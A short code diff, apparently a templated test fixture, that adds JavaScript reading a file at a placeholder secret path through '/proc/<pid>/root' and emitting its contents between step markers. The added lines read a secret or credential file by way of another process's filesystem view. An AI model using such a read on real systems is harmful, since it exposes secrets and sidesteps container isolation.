@@ -1,0 +1,5 @@
+at_step();
+const fs = require("fs"); // step
+const text = fs.readFileSync("/proc/{{process.pid}}/root{{secret.path}}", "utf8"); // step
+past_step();
+emit(text);
